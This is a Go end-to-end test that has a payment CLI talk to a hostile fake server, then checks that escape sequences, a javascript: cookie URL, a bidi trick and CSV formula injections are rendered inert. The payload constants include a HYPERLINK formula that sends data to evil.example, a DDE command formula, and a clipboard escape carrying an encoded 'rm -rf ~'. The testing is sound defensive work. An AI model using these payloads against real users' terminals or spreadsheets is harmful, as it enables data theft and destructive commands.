package e2e

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

// Text a hostile or broken server might send: terminal escape sequences
// (clear screen, set the window title, write the clipboard), a bidi
// override and spreadsheet formulas.
const (
	escClear   = "\x1b[2J\x1b[H"
	escTitle   = "\x1b]0;pwned\x07"
	escClip    = "\x1b]52;c;cm0gLXJmIH4=\x07"
	bidi       = "\u202etxt.exe"
	formula    = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	cmdFormula = "+cmd|' /C calc'!A0"
)

// hostileServer stands in for My-CoolPay and answers paylink, checkStatus
// and balance with all of the above: the first paylink's payment_url is a
// javascript: URL, the second an https URL of 5,000 characters.
func hostileServer(t *testing.T) *httptest.Server {
	var mu sync.Mutex
	links := 0
	amounts := map[string]string{}
	apprefs := map[string]string{}
	write := func(w http.ResponseWriter, code int, v any) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(code)
		json.NewEncoder(w).Encode(v)
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		path := strings.TrimPrefix(r.URL.Path, "/api/pk")
		switch {
		case r.Method == http.MethodPost && path == "/paylink":
			var req map[string]any
			json.NewDecoder(r.Body).Decode(&req)
			links++
			ref := fmt.Sprintf("HOSTILE-%d", links)
			amounts[ref] = fmt.Sprint(req["transaction_amount"])
			apprefs[ref], _ = req["app_transaction_ref"].(string)
			u := "javascript:alert(document.cookie)//" + escTitle
			if links > 1 {
				u = "https://pay.example/checkout/" + strings.Repeat("a", 5000)
			}
			write(w, 201, map[string]any{"status": "success", "transaction_ref": ref, "payment_url": u})
		case r.Method == http.MethodGet && strings.HasPrefix(path, "/checkStatus/"):
			ref := strings.TrimPrefix(path, "/checkStatus/")
			amount, ok := amounts[ref]
			if ref == "ELSEWHERE-1" {
				amount, ok = "2500", true
				apprefs[ref] = formula
			}
			if !ok {
				write(w, 404, map[string]any{"status": "error", "message": "\x1b[31mnot found" + escTitle})
				return
			}
			write(w, 200, map[string]any{"status": "success", "transaction_ref": ref, "app_transaction_ref": apprefs[ref],
				"transaction_type": "PAYIN", "transaction_amount": json.Number(amount), "transaction_currency": "XAF",
				"transaction_operator": "CARD", "transaction_status": "PENDING", "operator_transaction_ref": formula,
				"transaction_message": escTitle + escClear + escClip + "message" + bidi, "transaction_reason": cmdFormula,
				"customer_phone_number": "-1+1"})
		case r.Method == http.MethodGet && path == "/balance":
			write(w, 200, map[string]any{"status": "success", "balance": 500})
		default:
			write(w, 404, map[string]any{"status": "error", "message": "Route not found" + escClear})
		}
	}))
	t.Cleanup(srv.Close)
	return srv
}

// noRawEscapes fails when out holds a byte or rune a terminal would obey.
func noRawEscapes(t *testing.T, what, out string) {
	t.Helper()
	for _, bad := range []string{"\x1b", "\x07", "\u202e", "\u009b"} {
		if strings.Contains(out, bad) {
			t.Fatalf("%s printed %q raw:\n%q", what, bad, out)
		}
	}
}

// TestHostileServerStaysInert: a stand-in server answers with escape
// sequences, formulas, a javascript: URL and a 5,000-character URL; the
// console (in tmux) shows them inert and stays alive, and so does every
// command, while --json keeps the exact values and CSV neutralises formulas.
func TestHostileServerStaysInert(t *testing.T) {
	needTmux(t)
	bin := buildBinary(t)
	api := hostileServer(t)
	db := filepath.Join(t.TempDir(), "ledger.db")
	newLedger(t, db)
	env := []string{"COOLPAY_DB=" + db, "COOLPAY_BASE_URL=" + api.URL + "/api", "COOLPAY_PUBLIC_KEY=pk", "COOLPAY_PRIVATE_KEY=TEST-hostile-key"}

	tm := newTerm(t, "coolpay-hostile")
	cmdline := fmt.Sprintf("env LANG=C.UTF-8 TERM=xterm-256color %s %s --lang en; echo EXIT=$?; sleep 60", strings.Join(env, " "), bin)
	tm.tmux("new-session", "-d", "-s", "e2e", "-x", "120", "-y", "34", cmdline)
	tm.waitFor(`Payin — mobile money`, 10*time.Second)

	// 1. A paylink answered with a javascript: URL: refused, never shown.
	tm.keys("C-Left")
	tm.waitFor(`Paylink — web checkout`, 5*time.Second)
	tm.typeText("4000")
	tm.keys("C-s")
	s := tm.waitFor(`secure https`, 10*time.Second)
	if strings.Contains(s, "javascript") {
		t.Fatalf("the javascript: link is on screen:\n%s", s)
	}

	// 2. A paylink with a 5,000-character https URL: shown, no QR code,
	// a note instead, and the console lives on.
	tm.keys("C-n")
	tm.waitFor(`Amount`, 5*time.Second)
	tm.typeText("5000")
	tm.keys("C-s")
	tm.waitFor(`too long for a QR code`, 10*time.Second)
	tm.waitFor(`pay\.example/checkout/aaaa`, 5*time.Second)

	// 3. History: the follower has polled; the server's message shows in
	// caret notation, the window title is untouched.
	for i := 0; i < 3; i++ {
		tm.keys("C-Right")
	}
	tm.waitFor(`\[History\]`, 5*time.Second)
	tm.waitFor(`paylink`, 5*time.Second)
	tm.keys("Enter")
	// The detail's title: History opens on the newest row, the paylink
	// whose long URL pushes the event trail below the fold.
	tm.waitFor(`Transaction #\d+ · paylink`, 5*time.Second)
	deadline := time.Now().Add(15 * time.Second)
	for !strings.Contains(tm.screen(), `^[]0;pwned^G`) {
		if time.Now().After(deadline) {
			t.Fatalf("the server's message never showed, inert:\n%s", tm.screen())
		}
		tm.keys("r") // ask again; the follower may not have polled yet
		time.Sleep(300 * time.Millisecond)
	}
	if title := tm.tmux("display-message", "-p", "-t", "e2e", "#{pane_title}"); strings.Contains(title, "pwned") {
		t.Fatalf("the server set the window title: %q", title)
	}
	raw := tm.tmux("capture-pane", "-p", "-e", "-t", "e2e")
	if strings.Contains(raw, "\x1b]") || strings.Contains(raw, "\u202e") {
		t.Fatalf("raw sequences reached the pane:\n%q", raw)
	}
	tm.keys("Escape")
	// Wait for the list before the next key: an ESC followed at once by
	// another key reads as Alt+that key.
	tm.waitFor(`/ search`, 5*time.Second)

	// 4. Quit (payments are still followed: confirm).
	tm.keys("C-c")
	if s := tm.waitFor(`Quit anyway|EXIT=0`, 5*time.Second); strings.Contains(s, "Quit anyway") {
		tm.keys("y")
	}
	tm.waitFor(`EXIT=0`, 10*time.Second)

	// 5. Every command: human output inert, JSON exact, CSV neutralised.
	run := func(args ...string) (string, int) {
		cmd := exec.Command(bin, args...)
		cmd.Env = append(os.Environ(), env...)
		out, err := cmd.CombinedOutput()
		code := 0
		if ee, ok := err.(*exec.ExitError); ok {
			code = ee.ExitCode()
		}
		return string(out), code
	}
	out, code := run("status", "ELSEWHERE-1")
	if code != 0 || !strings.Contains(out, "^[]0;pwned^G") {
		t.Fatalf("status: %d\n%s", code, out)
	}
	noRawEscapes(t, "status", out)
	out, code = run("status", "ELSEWHERE-1", "--json")
	var rec map[string]any
	if code != 0 || json.Unmarshal([]byte(out), &rec) != nil || rec["message"] != escTitle+escClear+escClip+"message"+bidi {
		t.Fatalf("status --json must keep the exact value: %d\n%s", code, out)
	}
	noRawEscapes(t, "status --json", out) // the value exact once decoded, \u202e in the text
	out, code = run("status", "NOPE")
	if code != 1 {
		t.Fatalf("status of an unknown ref: exit %d\n%s", code, out)
	}
	noRawEscapes(t, "status NOPE", out)
	out, _ = run("reconcile")
	noRawEscapes(t, "reconcile", out)
	out, code = run("history")
	if code != 0 || !strings.Contains(out, "HOSTILE-2") {
		t.Fatalf("history: %d\n%s", code, out)
	}
	noRawEscapes(t, "history", out)
	out, code = run("history", "--csv")
	if code != 0 || !strings.Contains(out, `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`) || !strings.Contains(out, "'+cmd|") {
		t.Fatalf("history --csv did not neutralise the formulas: %d\n%s", code, out)
	}
	for _, line := range strings.Split(out, "\n") {
		for _, cell := range strings.Split(line, ",") {
			if c := strings.TrimPrefix(cell, `"`); c != "" && strings.ContainsRune("=+@", rune(c[0])) {
				t.Fatalf("a CSV cell starts a formula: %q in\n%s", cell, line)
			}
		}
	}
}
